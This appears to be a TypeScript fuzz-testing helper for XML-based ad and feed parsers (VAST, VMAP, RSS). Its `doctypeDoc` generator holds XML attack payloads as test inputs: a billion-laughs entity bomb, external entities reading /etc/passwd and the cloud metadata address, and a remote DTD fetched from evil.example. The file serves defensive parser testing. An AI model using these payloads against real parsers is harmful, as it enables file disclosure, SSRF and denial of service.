/**
 * Shared pieces of the property tests (issue 18 item 5): run counts, mutations of real fixtures,
 * random chunk splits. Runs: 200 per property by default (CI); `FUZZ_RUNS=N npx tap -t0 test/fuzz` (no per-file timeout)
 * for a long run, `FUZZ_SEED=S` (with the same FUZZ_RUNS) to replay a failure (fast-check prints seed and path).
 */
import fc from 'fast-check';
import { fixture, fixtureFiles } from '../helpers/fixtures.js';

const envRuns = Number(process.env['FUZZ_RUNS']);
export const numRuns = Number.isInteger(envRuns) && envRuns > 0 ? envRuns : 200;
const envSeed = process.env['FUZZ_SEED'];
/** fc.assert parameters: run count and, when replaying, the seed. */
export const params: fc.Parameters<unknown> =
  envSeed !== undefined && envSeed !== '' ? { numRuns, seed: Number(envSeed) } : { numRuns };
export const paramsFor = <T>(scale = 1): fc.Parameters<T> => ({
  ...(params as fc.Parameters<T>),
  numRuns: Math.max(1, Math.round(numRuns * scale)),
});

/** Fixture texts of a folder, with their relative paths. */
export function fixtureTexts(folder: string, exts: string[]): Array<{ name: string; text: string }> {
  return fixtureFiles(folder, exts).map((name) => ({ name, text: fixture(name) }));
}

/** Characters that break line- and XML-based readers in interesting ways. */
const junkChar = fc.constantFrom(
  '\n',
  '\r',
  '\r\n',
  ' ',
  '\t',
  '#',
  '"',
  "'",
  '<',
  '>',
  '&',
  ';',
  ':',
  ',',
  '=',
  '/',
  '?',
  '\0',
  '\u00a0',
  '\ufeff',
  '\u2028',
  'é',
  '😀',
  '\ud800',
  ']]>',
  '<!--',
  '-->',
  '<![CDATA[',
  '&amp;',
  '&#x0;',
  '&lt;',
  '&bogus;',
  '#EXT-X-',
  '#EXTINF:',
  'URI="',
  '</',
  '/>',
  '\\',
  '../',
  './',
  '//',
  '?',
  '%',
);
const junk = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 8 }),
  fc.array(junkChar, { minLength: 1, maxLength: 4 }).map((a) => a.join('')),
);

type Edit =
  | { kind: 'flip'; at: number; ch: string }
  | { kind: 'insert'; at: number; text: string }
  | { kind: 'delete'; at: number; len: number }
  | { kind: 'truncate'; at: number }
  | { kind: 'dup'; at: number; len: number };

const edit: fc.Arbitrary<Edit> = fc.oneof(
  fc.record({
    kind: fc.constant('flip' as const),
    at: fc.nat(),
    ch: fc.oneof(junkChar, fc.string({ unit: 'binary', minLength: 1, maxLength: 1 })),
  }),
  fc.record({ kind: fc.constant('insert' as const), at: fc.nat(), text: junk }),
  fc.record({ kind: fc.constant('delete' as const), at: fc.nat(), len: fc.integer({ min: 1, max: 40 }) }),
  fc.record({ kind: fc.constant('truncate' as const), at: fc.nat() }),
  fc.record({ kind: fc.constant('dup' as const), at: fc.nat(), len: fc.integer({ min: 1, max: 200 }) }),
);

function apply(text: string, e: Edit): string {
  const at = text.length ? e.at % (text.length + 1) : 0;
  switch (e.kind) {
    case 'flip':
      return text.slice(0, at) + e.ch + text.slice(at + 1);
    case 'insert':
      return text.slice(0, at) + e.text + text.slice(at);
    case 'delete':
      return text.slice(0, at) + text.slice(at + e.len);
    case 'truncate':
      return text.slice(0, at);
    case 'dup':
      return text.slice(0, at + e.len) + text.slice(at);
  }
}

/** 1–6 random edits (char flips, junk insertion, deletion, truncation, duplication) of a text. */
export function mutated(base: fc.Arbitrary<string>): fc.Arbitrary<string> {
  return fc
    .tuple(base, fc.array(edit, { minLength: 1, maxLength: 6 }))
    .map(([text, edits]) => edits.reduce(apply, text));
}

/** Cut points for a text: a random split into 1–12 chunks (empty chunks included). */
export const cuts = fc.array(fc.double({ min: 0, max: 1, noNaN: true }), { maxLength: 11 });

export function splitAt<T extends string | Uint8Array>(whole: T, fractions: number[]): T[] {
  const points = fractions.map((f) => Math.floor(f * whole.length)).sort((a, b) => a - b);
  const out: T[] = [];
  let from = 0;
  for (const p of points) {
    out.push(whole.slice(from, p) as T);
    from = p;
  }
  out.push(whole.slice(from) as T);
  return out;
}

/** Runs fn; returns its value or the error it threw (for "only this error class" checks). */
export function outcome<T>(fn: () => T): { ok: true; value: T } | { ok: false; error: unknown } {
  try {
    return { ok: true, value: fn() };
  } catch (error) {
    return { ok: false, error };
  }
}

/** XML-escapes text content or an attribute value, sometimes with numeric references. */
export function xmlEscape(s: string, numeric = false): string {
  return s.replace(/[&<>"']/g, (c) =>
    numeric
      ? `&#${c.charCodeAt(0)};`
      : ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&apos;' } as Record<string, string>)[c]!,
  );
}

/** Text content as an encoder of the generated document writes it: escaped, numeric references, or CDATA (split where it holds `]]>`). */
export const textEncoding = fc.constantFrom('escape', 'numeric', 'cdata', 'cdata-padded', 'padded') as fc.Arbitrary<
  'escape' | 'numeric' | 'cdata' | 'cdata-padded' | 'padded'
>;

export function encodeText(s: string, how: 'escape' | 'numeric' | 'cdata' | 'cdata-padded' | 'padded'): string {
  switch (how) {
    case 'escape':
      return xmlEscape(s);
    case 'numeric':
      return xmlEscape(s, true);
    case 'cdata':
      return `<![CDATA[${s.replace(/]]>/g, ']]]]><![CDATA[>')}]]>`;
    case 'cdata-padded':
      return `\n  <![CDATA[${s.replace(/]]>/g, ']]]]><![CDATA[>')}]]>\n  `;
    case 'padded':
      return `\n\t ${xmlEscape(s)} \n`;
  }
}

/** Text an XML 1.0 document may carry: no control characters or lone surrogates; no leading/trailing whitespace (readers trim). */
export const xmlText = (maxLength = 30) =>
  fc
    .string({
      unit: fc.oneof(
        { weight: 6, arbitrary: fc.constantFrom(...'abcXYZ019 -_./?=&<>"\'#%:;,'.split('')) },
        { weight: 1, arbitrary: fc.constantFrom('é', 'ß', '中', '😀', '\u00a0x', ']]>', '&amp;') },
      ),
      maxLength,
    })
    .map((s) => s.trim())
    .filter((s) => s.length > 0 && !/^\u00a0|\u00a0$/.test(s));

/** An http(s) URL with a query (ampersands exercise escaping). */
export const httpUrl = fc
  .record({
    scheme: fc.constantFrom('http', 'https'),
    host: fc.constantFrom('ads.example.com', 'cdn.example.net', 'tr.example.org', 'x.test'),
    path: fc.array(fc.constantFrom('a', 'b', 'vast', 'v1', 'é', '%20', 'x.mp4'), { maxLength: 4 }),
    q: fc.array(fc.tuple(fc.constantFrom('a', 'cb', 'id'), fc.constantFrom('1', '[CACHEBUSTING]', 'x y', '%2F')), {
      maxLength: 3,
    }),
  })
  .map(
    ({ scheme, host, path, q }) =>
      `${scheme}://${host}/${path.join('/')}${q.length ? '?' + q.map(([k, v]) => `${k}=${v}`).join('&') : ''}`,
  );

/** DOCTYPE variants: billion laughs, external entities, parameter entities, odd case, after a prolog. */
export const doctypeDoc = fc
  .record({
    prolog: fc.constantFrom(
      '',
      '\ufeff',
      '<?xml version="1.0"?>',
      '<?xml version="1.0" encoding="UTF-8"?>\n<!-- c -->\n',
      '<?xml-stylesheet href="x"?>',
    ),
    keyword: fc.constantFrom('<!DOCTYPE', '<!doctype', '<!DocType'),
    root: fc.constantFrom('VAST', 'VMAP', 'rss', 'x'),
    body: fc.constantFrom(
      '[<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]',
      'SYSTEM "file:///etc/passwd"',
      '[<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]',
      '[<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]',
      '',
    ),
    use: fc.constantFrom('&d;', '&xxe;', '', '&a;'),
    inside: fc.boolean(),
  })
  .map((r) => {
    const doctype = `${r.keyword} ${r.root} ${r.body}>\n`;
    return `${r.prolog}${r.inside ? '' : doctype}<${r.root} version="3.0">${r.inside ? doctype : ''}<Ad id="1"><InLine><AdTitle>${r.use}</AdTitle></InLine></Ad><channel><item><guid>g</guid><title>${r.use}</title></item></channel></${r.root}>`;
  });
